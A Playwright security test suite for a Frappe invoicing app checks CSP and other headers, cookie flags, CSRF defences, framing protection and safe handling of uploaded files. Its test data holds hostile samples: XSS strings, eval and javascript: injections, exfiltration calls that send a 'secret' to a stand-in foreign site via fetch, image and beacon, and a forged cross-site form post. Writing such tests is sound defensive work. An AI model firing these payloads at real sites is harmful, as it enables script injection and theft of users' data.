import { test as base, expect, cashier, password, patience } from './support/fixtures.ts'
import { billFor, field, fillInvoice, fillLogin, issue, makeCustomer, openInvoiceName, sendButton, someone, stateOf } from './support/actions.ts'
import { FrappeClient, ServerRefusal } from './support/frappe-client.ts'
import { OtherSite } from './support/other-site.ts'

declare global {
  interface Window {
    broken?: unknown
  }
}

const test = base.extend<{ other: OtherSite; administrator: FrappeClient }>({
  other: async ({}, use) => {
    const other = await OtherSite.start()
    await use(other)
    await other.stop()
  },
  administrator: async ({ site }, use) => use(await FrappeClient.signIn(site.url, 'Administrator', process.env['EBM_ADMIN_PASSWORD'] ?? 'admin')),
})

test.use({ expectsViolations: true })

const evil = '</script><script>window.broken=1</script><img src=x onerror="window.broken=1">'

test.describe('what the page is told by its headers', () => {
  for (const path of ['/ebm', '/ebm/dashboard', '/ebm/no/such/place']) {
    test(`${path} may load from its own origin only, run nothing inline and be framed by nobody`, async ({ page, baseURL }) => {
      const headers = (await page.goto(path))?.headers() ?? {}
      const policy = new Map((headers['content-security-policy'] ?? '').split(';').map((part) => [part.trim().split(' ')[0], part.trim()]))
      expect(policy.get('script-src')).toBe("script-src 'self'")
      expect(policy.get('frame-ancestors')).toBe("frame-ancestors 'none'")
      expect(headers['content-security-policy']).not.toMatch(/unsafe|\*/)
      const connect = policy.get('connect-src')?.split(' ').slice(2) ?? []
      for (const source of connect) expect(new URL(source).hostname).toBe(new URL(baseURL ?? '').hostname)
      expect(headers).toMatchObject({
        'x-frame-options': 'DENY', 'x-content-type-options': 'nosniff', 'referrer-policy': 'same-origin',
        'cross-origin-opener-policy': 'same-origin', 'cross-origin-resource-policy': 'same-origin', 'cache-control': 'no-store',
      })
      expect(headers['permissions-policy']).toContain('camera=()')
    })
  }

  test('two answers never have the same nonce', async ({ request }) => {
    const nonce = async () => /'nonce-([^']+)'/.exec((await request.get('/ebm')).headers()['content-security-policy'] ?? '')?.[1]
    const first = await nonce()
    expect(first).toMatch(/^[\w-]{22,}$/)
    expect(await nonce()).not.toBe(first)
  })
})

test.describe('somebody got script or markup into the page', () => {
  const attempts: { what: string; stopped: RegExp; code: (other: string) => unknown }[] = [
    {
      what: 'an inline script',
      stopped: /will not be executed/,
      code: () => {
        const script = document.createElement('script')
        script.append(new Text('window.broken = 1'))
        document.body.append(script)
      },
    },
    {
      what: 'markup with a handler',
      stopped: /require-trusted-types-for|Markup from text/,
      code: () => (document.body.innerHTML = '<img src=x onerror="window.broken = 1">'),
    },
    {
      what: 'a handler attribute',
      stopped: /script-src|require-trusted-types-for/,
      code: () => {
        const button = document.createElement('button')
        document.body.append(button)
        button.setAttribute('onclick', 'window.broken = 1')
        button.click()
      },
    },
    {
      what: 'a javascript: address',
      stopped: /script-src|require-trusted-types-for/,
      code: () => {
        const link = document.createElement('a')
        link.href = 'javascript:window.broken=1'
        document.body.append(link)
        link.click()
      },
    },
    { what: 'eval', stopped: /script-src|require-trusted-types-for/, code: () => void (0, eval)('window.broken = 1') },
    {
      what: 'new Function',
      stopped: /script-src|require-trusted-types-for/,
      // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- which is what is tried
      code: () => void new Function('window.broken = 1')(),
    },
    { what: 'a timer with text', stopped: /script-src|require-trusted-types-for/, code: () => setTimeout('window.broken = 1' as unknown as () => void) },
    {
      what: 'a script of another site',
      stopped: /script-src|require-trusted-types-for/,
      code: (other) => {
        const script = document.createElement('script')
        script.src = `${other}/broken.js`
        document.body.append(script)
      },
    },
    { what: 'a module of another site', stopped: /script-src/, code: (other) => import(`${other}/broken.js`) as Promise<unknown> },
    {
      what: 'a worker made of text',
      stopped: /worker-src|require-trusted-types-for/,
      code: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
    },
    {
      what: 'a style sheet of another site',
      stopped: /style-src/,
      code: (other) => {
        const link = document.createElement('link')
        link.rel = 'stylesheet'
        link.href = `${other}/broken.css`
        document.head.append(link)
      },
    },
    {
      what: 'a style element without the nonce',
      stopped: /style-src-elem/,
      code: () => {
        const style = document.createElement('style')
        style.append(new Text('body { --broken: 1 }'))
        document.head.append(style)
        if (getComputedStyle(document.body).getPropertyValue('--broken') !== '') window.broken = 1
      },
    },
    {
      what: 'a style attribute',
      stopped: /style-src-attr/,
      code: () => {
        document.body.setAttribute('style', '--broken: 1')
        if (getComputedStyle(document.body).getPropertyValue('--broken') !== '') window.broken = 1
      },
    },
    { what: 'a picture of another site, to carry something out', stopped: /img-src/, code: (other) => (new Image().src = `${other}/picture?secret`) },
    { what: 'a request to another site', stopped: /connect-src/, code: (other) => fetch(`${other}/take?secret`) },
    { what: 'a beacon', stopped: /connect-src/, code: (other) => navigator.sendBeacon(`${other}/beacon`, 'secret') },
    { what: 'a socket to another port', stopped: /connect-src/, code: (other) => new WebSocket(`${other.replace('http', 'ws')}/socket`) },
    {
      what: 'a frame of another site',
      stopped: /frame-src/,
      code: (other) => {
        const frame = document.createElement('iframe')
        frame.src = `${other}/frame`
        document.body.append(frame)
      },
    },
    {
      what: 'a plug-in',
      stopped: /object-src|require-trusted-types-for/,
      code: (other) => {
        const object = document.createElement('object')
        object.data = `${other}/object`
        document.body.append(object)
      },
    },
    {
      what: 'a base address',
      stopped: /base-uri/,
      code: (other) => {
        const element = document.createElement('base')
        element.href = other
        document.head.prepend(element)
        const link = document.createElement('a')
        link.href = 'x'
        if (link.href.startsWith(other)) window.broken = 1
      },
    },
    {
      what: 'a form to another site',
      stopped: /form-action/,
      code: (other) => {
        const form = document.createElement('form')
        form.action = `${other}/form`
        form.method = 'post'
        document.body.append(form)
        form.submit()
      },
    },
  ]

  for (const { what, stopped, code } of attempts) {
    test(`${what}: the browser refuses`, async ({ page, violations, other, baseURL }) => {
      await page.goto('/ebm/login')
      await expect(field(page, 'E-mail')).toBeVisible()
      expect(violations).toEqual([])
      // From a task of the page's own: what the browser's tools call themselves may do more than a page.
      const attempt = `(${code.toString()})(${JSON.stringify(other.foreign(baseURL ?? ''))})`
      await page.evaluate(`void setTimeout(() => { try { ${attempt} } catch (error) { ebmViolation(String(error)) } })`)
      await expect.poll(() => violations.join('\n')).toMatch(stopped)
      expect(await page.evaluate(() => window.broken)).toBeUndefined()
      expect(other.calls).toEqual([])
      expect(await page.evaluate(() => location.pathname)).toBe('/ebm/login')
    })
  }
})

test('markup that is already in the answer of the server does not run either', async ({ page, violations, other, baseURL }) => {
  const foreign = other.foreign(baseURL ?? '')
  const smuggled = `${evil}<script src="${foreign}/broken.js"></script><style>body { --broken: 1 }</style><p id="smuggled" style="--broken: 1" onclick="window.broken=1">x</p>`
  await page.route('**/ebm/login', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('<div id="app">', `${smuggled}<div id="app">`) })
  })
  await page.goto('/ebm/login')
  await expect(field(page, 'E-mail')).toBeVisible()
  await page.locator('#smuggled').click()
  for (const directive of ['script-src-elem inline', 'script-src-attr inline', `script-src-elem ${foreign}`, 'style-src-elem inline', 'style-src-attr inline']) {
    await expect.poll(() => violations.join('\n'), directive).toContain(directive)
  }
  expect(await page.evaluate(() => window.broken)).toBeUndefined()
  expect(await page.locator('#smuggled').evaluate((element) => getComputedStyle(element).getPropertyValue('--broken'))).toBe('')
  expect(other.calls).toEqual([])
})

test.describe('hostile text from the server is text', () => {
  test('the name of the utility cannot leave the title or the boot', async ({ page, violations, administrator }) => {
    const settings = await administrator.get<{ utility_name?: string | null }>('frappe.client.get', { doctype: 'EBM Settings', name: 'EBM Settings' })
    // As JSON: of a plain text Frappe would have taken the script out on saving.
    await administrator.setValue('EBM Settings', 'EBM Settings', { utility_name: JSON.stringify([evil]) })
    try {
      await page.goto('/ebm/login')
      await expect(field(page, 'E-mail')).toBeVisible()
      expect(await page.title()).toContain('<script>')
      expect(await page.evaluate(() => window.broken)).toBeUndefined()
      expect(violations).toEqual([])
      expect(await page.locator('img[src="x"]').count()).toBe(0)
    } finally {
      await administrator.setValue('EBM Settings', 'EBM Settings', { utility_name: settings.utility_name ?? '' })
    }
  })

  test('the name of a customer is shown as it is written, on the list, the invoice and the print', async ({ page, violations, api, signIn }) => {
    const customer = `${someone('Eve')} <img src=x onerror="window.broken=1">`
    const { name } = await issue(api, await billFor(api, customer))
    const [stored] = await api.list<{ customer_name: string }>('EBM Invoice', ['customer_name'], { name })
    test.setTimeout(90_000 + patience)
    await signIn()
    await page.goto(`/ebm/invoices/${name}`)
    await expect(stateOf(page)).toContainText('Signed', { timeout: patience })
    for (const path of ['/ebm/invoices', `/ebm/invoices/${name}`, `/ebm/invoices/${name}/print?paper=A4`]) {
      await page.goto(path)
      await expect(page.getByText((stored?.customer_name ?? '').split(' <')[0] ?? '').first()).toBeVisible()
      expect(await page.locator('img[src="x"]').count()).toBe(0)
    }
    expect(await page.evaluate(() => window.broken)).toBeUndefined()
    expect(violations).toEqual([])
  })

  test('[E8] markup in a message is not run and not shown as markup', async ({ page, violations }) => {
    await page.goto('/ebm/login')
    const message = JSON.stringify([JSON.stringify({ message: `Closed <b>today</b>${evil}`, title: 'Message', raise_exception: 1 })])
    await page.route('**/api/method/login', (route) => route.fulfill({ status: 417, json: { exc_type: 'ValidationError', _server_messages: message } }))
    await fillLogin(page)
    await expect(page.getByRole('alert')).toContainText('Closed today')
    await expect(page.getByRole('alert').locator('b, img, script')).toHaveCount(0)
    expect(await page.evaluate(() => window.broken)).toBeUndefined()
    expect(violations).toEqual([])
  })
})

test.describe('from another site', () => {
  test('the page cannot be framed', async ({ page, other, baseURL }) => {
    other.page('/frames', `<iframe src="${baseURL}/ebm/login" style="width:900px;height:600px"></iframe>`)
    for (const origin of [other.foreign(baseURL ?? ''), other.neighbour(baseURL ?? '')]) {
      await page.goto(`${origin}/frames`)
      await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
      expect(await page.frames()[1]?.locator('#app').count()).toBe(0)
    }
  })

  test('a window it opened is no handle on the page, nor the page one on it', async ({ page, context, other, baseURL }) => {
    other.page('/opens', `<button onclick="handle = window.open('${baseURL}/ebm/login')">open</button>`)
    await page.goto(`${other.foreign(baseURL ?? '')}/opens`)
    const opened = context.waitForEvent('page')
    await page.getByRole('button', { name: 'open' }).click()
    const app = await opened
    await expect(field(app, 'E-mail')).toBeVisible()
    expect(await app.evaluate(() => window.opener as unknown)).toBeNull()
    expect(await page.evaluate(() => (window as unknown as { handle: Window }).handle.closed)).toBe(true)
  })

  test('a link from it leads in as from anywhere, and tells us where it came from [R4]', async ({ page, other, baseURL }) => {
    other.page('/links', `<a href="${baseURL}/ebm/login">in</a>`)
    await page.goto(`${other.foreign(baseURL ?? '')}/links`)
    await page.getByRole('link', { name: 'in' }).click()
    await expect(field(page, 'E-mail')).toBeVisible()
    expect(await page.evaluate(() => document.referrer)).toContain(other.foreign(baseURL ?? ''))
  })

  test('what it is linked to does not learn the path', async ({ page, other, baseURL, signIn }) => {
    await signIn()
    await page.goto('/ebm/invoices?q=secret')
    await page.evaluate((href) => {
      const link = document.createElement('a')
      link.href = href
      link.textContent = 'away'
      document.body.append(link)
    }, `${other.foreign(baseURL ?? '')}/away`)
    await page.getByText('away', { exact: true }).click()
    await expect.poll(() => other.calls.find(({ path }) => path === '/away')?.referer).toBe('')
  })

  test('it can read neither the token nor anything else', async ({ page, other, baseURL, signIn }) => {
    await signIn()
    await page.goto('/ebm/dashboard')
    for (const origin of [other.foreign(baseURL ?? ''), other.neighbour(baseURL ?? '')]) {
      await page.goto(`${origin}/reads`)
      for (const path of ['/api/method/ebm.api.session.boot', '/ebm', '/api/method/frappe.client.get_list?doctype=EBM+Invoice']) {
        const read = await page.evaluate(
          (url) => fetch(url, { credentials: 'include' }).then((answer) => answer.text(), (error: unknown) => String(error)),
          `${baseURL}${path}`,
        )
        expect(read, path).toContain('TypeError')
      }
    }
  })

  for (const from of ['foreign', 'neighbour'] as const) {
    test(`a form posted from a ${from} origin changes nothing, whoever is signed in`, async ({ page, other, baseURL, api, signIn }) => {
      await signIn()
      await page.goto('/ebm/dashboard')
      await expect(page.getByRole('heading', { name: 'Dashboard', level: 1 })).toBeVisible()
      const customer = someone('Forged')
      const doc = JSON.stringify({ doctype: 'EBM Customer', customer_name: customer, phone: '0788123456' }).replaceAll('"', '&quot;')
      other.page('/forges', `<form method="post" action="${baseURL}/api/method/frappe.client.insert"><input name="doc" value="${doc}"><button>go</button></form>`)
      await page.goto(`${other[from](baseURL ?? '')}/forges`)
      const [answer] = await Promise.all([page.waitForResponse('**/frappe.client.insert'), page.getByRole('button', { name: 'go' }).click()])
      // Without the cookie a stranger (403); with it, from the same host, a person without the token (400).
      expect(answer.status()).toBe(from === 'foreign' ? 403 : 400)
      expect(await api.list('EBM Customer', ['name'], { customer_name: customer })).toEqual([])
    })
  }

  test('an address that is only opened writes nothing', async ({ api }) => {
    const refused = async (method: string, args: Record<string, string>) => {
      const error: unknown = await api.get(method, args).then(() => null, (reason: unknown) => reason)
      expect(error, method).toBeInstanceOf(ServerRefusal)
      expect((error as ServerRefusal).status, method).toBe(403)
    }
    await refused('frappe.client.insert', { doc: '{"doctype":"EBM Customer","customer_name":"By address"}' })
    await refused('frappe.client.set_value', { doctype: 'EBM Customer', name: 'x', fieldname: 'phone', value: '1' })
    await refused('frappe.client.delete', { doctype: 'EBM Customer', name: 'x' })
    await refused('ebm.api.invoices.issue', { bill: '{}', send: '1' })
  })
})

test.describe('the session', () => {
  test('its cookie is out of reach of script and of forms elsewhere; neither it nor the token stands in an address or a store', async ({ page, context, baseURL }) => {
    const addresses: string[] = []
    page.on('request', (request) => addresses.push(request.url()))
    await page.goto('/ebm/login')
    await fillLogin(page)
    await expect(page).toHaveURL(/\/ebm\/(dashboard|verify)/)
    await page.goto('/ebm/invoices')
    await expect(page.getByRole('heading', { name: 'Invoices', level: 1 })).toBeVisible()
    const cookies = await context.cookies(baseURL ?? '')
    const sid = cookies.find(({ name }) => name === 'sid')
    expect(sid).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/', secure: (baseURL ?? '').startsWith('https') })
    for (const cookie of cookies) expect(cookie.sameSite, cookie.name).toBe('Lax')
    const token = (await (await FrappeClient.ofBrowser(baseURL ?? '', context)).get<{ csrf_token: string }>('ebm.api.session.boot')).csrf_token
    const kept = await page.evaluate(() => document.cookie + JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]))
    for (const secret of [sid?.value ?? '', token]) {
      expect(secret).toMatch(/^\w{20,}$/)
      expect(kept).not.toContain(secret)
      for (const address of addresses) expect(address).not.toContain(secret)
    }
  })

  test('a file that could run is given out to be saved, not opened', async ({ context, api, baseURL, signIn }) => {
    await signIn()
    const customer = someone('Files')
    await makeCustomer(api, { customer_name: customer, phone: '0788123456' })
    const [row] = await api.list<{ name: string }>('EBM Customer', ['name'], { customer_name: customer })
    const { csrf_token } = await (await FrappeClient.ofBrowser(baseURL ?? '', context)).get<{ csrf_token: string }>('ebm.api.session.boot')
    for (const [name, mimeType] of [['evil.html', 'text/html'], ['evil.svg', 'image/svg+xml']] as const) {
      const body = `<svg xmlns="http://www.w3.org/2000/svg"><script>/* ${customer} */</script></svg>`
      const uploaded = await context.request.post('/api/method/upload_file', {
        headers: { 'X-Frappe-CSRF-Token': csrf_token, Accept: 'application/json' },
        multipart: { file: { name, mimeType, buffer: Buffer.from(body) }, doctype: 'EBM Customer', docname: row?.name ?? '', is_private: '1' },
      })
      const { message } = (await uploaded.json()) as { message: { file_url: string } }
      const given = await context.request.get(message.file_url)
      expect(given.status()).toBe(200)
      expect(given.headers()['content-disposition'], name).toMatch(/^attachment/)
    }
  })
})

test('nothing of ours needs what the policy forbids: no violation on the way through all screens', async ({ page, violations, api }) => {
  test.setTimeout(180_000)
  const complaints: string[] = []
  page.on('console', (message) => {
    if (/Content.Security.Policy|TrustedHTML/i.test(message.text())) complaints.push(message.text())
  })
  await page.goto('/ebm')
  await fillLogin(page, cashier, password)
  await expect(page).toHaveURL(/\/ebm\/(dashboard|verify)/)
  for (const path of ['/ebm/verify', '/ebm/dashboard', '/ebm/dashboard?year=2020', '/ebm/nowhere']) {
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
  }
  await page.getByRole('button', { name: /^Your menu/ }).click()
  await expect(page.getByRole('menuitem', { name: 'Sign out' })).toBeVisible()
  await fillInvoice(page, someone())
  await sendButton(page).click()
  const name = await openInvoiceName(page)
  for (const path of ['/ebm/invoices', `/ebm/invoices/${name}`, `/ebm/invoices/${name}/print`, `/ebm/invoices/${name}/print?paper=A4`]) {
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
  }
  await page.goto('/ebm/invoices/new')
  await sendButton(page).click()
  await expect(field(page, 'Name')).toBeVisible()
  expect(await api.list('EBM Invoice', ['name'], { name })).toHaveLength(1)
  expect(violations).toEqual([])
  expect(complaints).toEqual([])
})
